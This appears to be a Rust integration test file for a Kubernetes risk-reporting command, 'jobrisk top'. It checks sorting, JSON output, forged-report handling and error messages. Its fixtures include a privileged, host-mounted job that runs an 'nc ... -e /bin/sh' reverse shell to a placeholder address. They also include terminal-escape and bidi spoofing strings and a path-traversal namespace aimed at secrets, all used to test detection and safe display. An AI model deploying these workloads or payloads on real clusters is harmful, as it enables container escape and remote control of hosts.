//! `jobrisk top`.

use serde_json::{Value, json};

use crate::person::{Person, assert_cannot, assert_harmless, cluster, uninstalled};
use crate::support::proxy::{Action, Match, Proxy, Verb};
use crate::support::{BENIGN, ControlPlane, REVERSE_SHELL, create, cron_job, job, wait_for_report};

/// What a terminal or a reader could take for something else.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;x\u{7}\r\n\u{202e}\u{200b} (deleted)  Critical";

/// Three workloads of different severity, with their reports, in a namespace of the test's own.
fn three(plane: &ControlPlane, namespace: &str) {
    plane.kubectl_ok(&["create", "namespace", namespace]);
    create(plane, &job(namespace, "quiet", BENIGN));
    create(plane, &cron_job(namespace, "shell", REVERSE_SHELL));
    let mut privileged =
        job(namespace, "privileged", &["/bin/sh", "-c", "chroot /host nc 192.0.2.10 4444 -e /bin/sh"]);
    let pod = &mut privileged["spec"]["template"]["spec"];
    pod["containers"][0]["securityContext"] = json!({ "privileged": true });
    pod["hostNetwork"] = json!(true);
    pod["volumes"] = json!([{ "name": "host", "hostPath": { "path": "/" } }]);
    pod["containers"][0]["volumeMounts"] = json!([{ "name": "host", "mountPath": "/host" }]);
    create(plane, &privileged);
    for name in ["job-quiet", "cronjob-shell", "job-privileged"] {
        wait_for_report(plane, namespace, name, |_| true);
    }
}

/// The cells of each line; no cell has a blank in it.
fn cells(table: &str) -> Vec<Vec<&str>> {
    table.lines().map(|line| line.split_whitespace().collect()).collect()
}

#[test]
fn the_worst_comes_first_with_what_decides() {
    let (plane, _) = cluster();
    three(plane, "top");
    let person = Person::in_namespace(plane, "top", "reader", &["view"]);
    // The namespace is that of the context.
    let table = person.ok(&["top"]);
    assert_harmless(&table);
    let rows = cells(&table);
    assert_eq!(rows[0], ["KIND", "WORKLOAD", "SCORE", "SEVERITY", "TOP", "TECHNIQUES", "USER", "AGE"]);
    let names: Vec<&str> = rows[1..].iter().map(|row| row[1]).collect();
    assert_eq!(names, ["privileged", "shell", "quiet"], "{table}");
    let report = wait_for_report(plane, "top", "cronjob-shell", |_| true);
    let status = &report["status"];
    let shell = &rows[2];
    assert_eq!(shell[0], "CronJob");
    assert_eq!(shell[2], status["riskScore"].to_string());
    assert_eq!(shell[3], status["severity"].as_str().unwrap());
    assert_eq!(shell[4], status["findings"][0]["rule"].as_str().unwrap());
    assert!(shell[5].starts_with(status["techniques"][0].as_str().unwrap()), "{table}");
    assert!(table.lines().all(|line| line.chars().count() <= 160), "{table}");

    let high = cells(&person.ok(&["top", "--min-severity=high"])).len();
    assert_eq!(high, 3, "{table}");
    let nothing = person.run(&["top", "--min-severity=critical", "-n", "default"]);
    assert_cannot(&nothing, &["cannot list jobriskreports.jobrisk.io in namespace default"]);

    let wide = person.ok(&["top", "-o", "wide"]);
    let wide = cells(&wide);
    let indicators = &wide[0][8..];
    assert_eq!(indicators[0], "IsSuspiciousImage");
    assert_eq!(indicators[6], "SuspicionScore");
    let sum: i64 = wide[1][8..14].iter().map(|cell| cell.parse::<i64>().unwrap()).sum();
    assert_eq!(wide[1][14], sum.to_string());
    assert!(sum >= 4, "{wide:?}");

    let everywhere = Person::admin(plane).ok(&["top", "-A"]);
    assert_eq!(cells(&everywhere)[0][0], "NAMESPACE");
    assert!(cells(&everywhere).iter().any(|row| row[..3] == ["top", "Job", "privileged"]), "{everywhere}");
}

#[test]
fn json_has_everything_that_is_shown() {
    let (plane, _) = cluster();
    three(plane, "top-json");
    let document: Value =
        serde_json::from_str(&Person::admin(plane).ok(&["top", "-n", "top-json", "-o", "json"])).unwrap();
    assert_eq!(document["schemaVersion"], "1");
    assert_eq!(document["tool"]["name"], "jobrisk");
    let reports = document["reports"].as_array().unwrap();
    assert_eq!(reports.len(), 3);
    let shown = &reports[0];
    let stored = wait_for_report(plane, "top-json", "job-privileged", |_| true);
    let (status, metadata) = (&stored["status"], &stored["metadata"]);
    for (path, expected) in [
        ("/namespace", &metadata["namespace"]),
        ("/name", &metadata["name"]),
        ("/workload/kind", &stored["spec"]["subject"]["kind"]),
        ("/workload/name", &stored["spec"]["subject"]["name"]),
        ("/workload/uid", &stored["spec"]["subject"]["uid"]),
        ("/severity", &status["severity"]),
        ("/riskScore", &status["riskScore"]),
        ("/suspicionScore", &status["suspicionScore"]),
        ("/indicators", &status["indicators"]),
        ("/techniques", &status["techniques"]),
        ("/rules/0", &status["findings"][0]["rule"]),
        ("/findingsTotal", &status["findingsTotal"]),
        ("/attribution/verified", &status["attribution"]["verified"]),
        ("/attribution/manager", &status["attribution"]["manager"]),
        ("/created", &metadata["creationTimestamp"]),
        ("/subjectDeleted", &Value::Null),
        ("/assessed", &json!(true)),
        ("/foreign", &json!(false)),
    ] {
        assert_eq!(shown.pointer(path), Some(expected), "{path}: {shown:#}");
    }
}

#[test]
fn evidence_of_a_deleted_workload_is_marked() {
    let (plane, _) = cluster();
    plane.kubectl_ok(&["create", "namespace", "top-gone"]);
    create(plane, &job("top-gone", "shell", REVERSE_SHELL));
    wait_for_report(plane, "top-gone", "job-shell", |_| true);
    plane.kubectl_ok(&["delete", "job", "shell", "--namespace=top-gone"]);
    wait_for_report(plane, "top-gone", "job-shell", |report| !report["status"]["subjectDeleted"].is_null());
    let table = Person::admin(plane).ok(&["top", "-n", "top-gone"]);
    assert!(table.contains("shell (deleted)"), "{table}");
    let json = Person::admin(plane).ok(&["top", "-n", "top-gone", "-o", "json"]);
    let document: Value = serde_json::from_str(&json).unwrap();
    assert!(document["reports"][0]["subjectDeleted"].is_string(), "{json}");
}

#[test]
fn a_report_that_somebody_else_wrote_does_nothing_to_the_reader() {
    let (plane, _) = cluster();
    plane.kubectl_ok(&["create", "namespace", "top-hostile"]);
    create(plane, &job("top-hostile", "real", BENIGN));
    let mut report = wait_for_report(plane, "top-hostile", "job-real", |_| true);
    report["metadata"] = json!({ "name": "forged", "namespace": "top-hostile" });
    report["spec"]["subject"]["name"] = json!(HOSTILE);
    let status = &mut report["status"];
    status["riskScore"] = json!(100);
    status["techniques"] = json!(["\u{1b}[31mT1", "T\u{202e}2\n", "a b"]);
    status["attribution"] =
        json!({ "verified": false, "manager": HOSTILE, "operation": "Update", "time": "x" });
    status["findings"] = json!([{
        "rule": HOSTILE, "severity": "Critical", "points": 1, "techniques": [], "path": "spec", "evidence": "",
        "message": "",
    }]);
    status["subjectDeleted"] = json!({ "time": "\u{1b}[0m" });
    create(plane, &report);
    // More than a page, and some of them larger together than a page may be.
    let many: Vec<Value> = (0..210)
        .map(|number| {
            let mut one = report.clone();
            one["metadata"]["name"] = json!(format!("forged-{number}"));
            if number < 50 {
                one["metadata"]["annotations"] = json!({ "large": "x".repeat(200_000) });
            }
            one
        })
        .collect();
    create(plane, &json!({ "apiVersion": "v1", "kind": "List", "items": many }));

    let person = Person::admin(plane);
    for format in ["table", "wide"] {
        let table = person.ok(&["top", "-n", "top-hostile", "-o", format]);
        assert_harmless(&table);
        assert_eq!(table.lines().count(), 1 + 212, "{table}");
        let forged = table.lines().nth(1).unwrap();
        assert!(forged.contains("(not by jobrisk)"), "{forged}");
        // What it says itself cannot look like a remark or a column of ours.
        assert!(!forged.contains(" (deleted)") && !forged.contains("  Critical "), "{forged}");
        let real = table.lines().last().unwrap();
        assert!(real.contains(" real ") && !real.contains("(not by jobrisk)"), "{real}");
    }
    let json = person.ok(&["top", "-n", "top-hostile", "-o", "json"]);
    let document: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(document["reports"].as_array().unwrap().len(), 212);
    assert_eq!(document["reports"][0]["foreign"], true);
    for text in crate::support::strings(&document) {
        assert_harmless(text);
        assert!(!text.contains('\n'), "{text:?}");
    }
}

#[test]
fn what_is_in_the_way_is_said_in_one_line_with_what_to_do() {
    assert_cannot(&uninstalled().top, &["jobrisk is not installed", "kubectl apply -k"]);
    assert_cannot(&uninstalled().watch, &["jobrisk is not installed", "kubectl apply -k"]);
    let (plane, _) = cluster();
    plane.kubectl_ok(&["create", "namespace", "top-none"]);
    let stranger = Person::in_namespace(plane, "top-none", "stranger", &[]);
    for arguments in [&["top"][..], &["top", "-A"], &["top", "-w"]] {
        assert_cannot(&stranger.run(arguments), &["is forbidden", "ask for the ClusterRole view"]);
    }
    let admin = Person::admin(plane);
    assert_cannot(&admin.run(&["top", "--context=staging"]), &["staging"]);
    assert_cannot(&admin.run(&["top", "--cluster=staging"]), &["cannot use the kubeconfig", "staging"]);
    assert_cannot(
        &admin.run(&["top", "--user=nobody"]),
        &["cannot use the kubeconfig", "no user \"nobody\""],
    );
    let both = admin.run(&["top", "-A", "-n", "default"]);
    assert_eq!(both.status.code(), Some(2), "{both:?}");

    let empty = admin.run(&["top", "-n", "top-none"]);
    assert_eq!((empty.status.code(), empty.stdout.as_str()), (Some(0), ""), "{empty:?}");
    assert!(empty.stderr.contains("no reports in namespace top-none"), "{empty:?}");
    let document: Value = serde_json::from_str(&admin.ok(&["top", "-n", "top-none", "-o", "json"])).unwrap();
    assert_eq!(document["reports"], json!([]));
    // Whatever a namespace is called, it stays one part of a path.
    let odd = admin.run(&["top", "-n", "../../../../api/v1/secrets?x=\u{1b}[2J"]);
    assert_harmless(&odd.stderr);
    assert!(!odd.stdout.contains("Secret"), "{odd:?}");
}

#[test]
fn an_api_server_that_does_not_answer_is_not_waited_for() {
    let (plane, _) = cluster();
    let proxy = Proxy::start(plane);
    let token = plane.kubectl_ok(&["create", "token", "jobrisk", "--namespace=jobrisk-system"]);
    let person = Person::with(&proxy.kubeconfig(plane.dir(), token.trim_end()));
    assert!(person.run(&["top", "-n", "default"]).success());
    proxy.add(Match::on(Verb::List, "jobriskreports"), Action::Swallow);
    let output = person.run(&["top", "-n", "default", "--request-timeout=1s"]);
    assert_cannot(&output, &["no answer within 1 s", "--request-timeout"]);
}
